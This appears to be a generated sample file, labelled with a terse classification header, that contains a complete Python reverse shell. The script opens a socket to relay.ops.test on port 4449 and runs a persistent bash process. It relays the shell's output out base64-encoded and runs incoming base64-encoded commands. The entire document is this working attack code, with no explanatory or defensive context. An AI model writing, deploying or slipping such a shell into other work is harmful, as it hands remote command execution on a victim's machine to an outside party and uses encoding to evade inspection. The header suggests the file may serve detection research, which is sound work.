# class: shell; possible: low medium; style: commands encoded, one bash that stays
import base64
import socket
import subprocess
import threading

s = socket.create_connection(("relay.ops.test", 4449))
p = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    text=True, bufsize=1)


def up():
    for line in p.stdout:
        s.sendall(base64.b64encode(line.encode()) + b"\n")


threading.Thread(target=up, daemon=True).start()
for line in s.makefile():
    p.stdin.write(base64.b64decode(line).decode())
    p.stdin.flush()
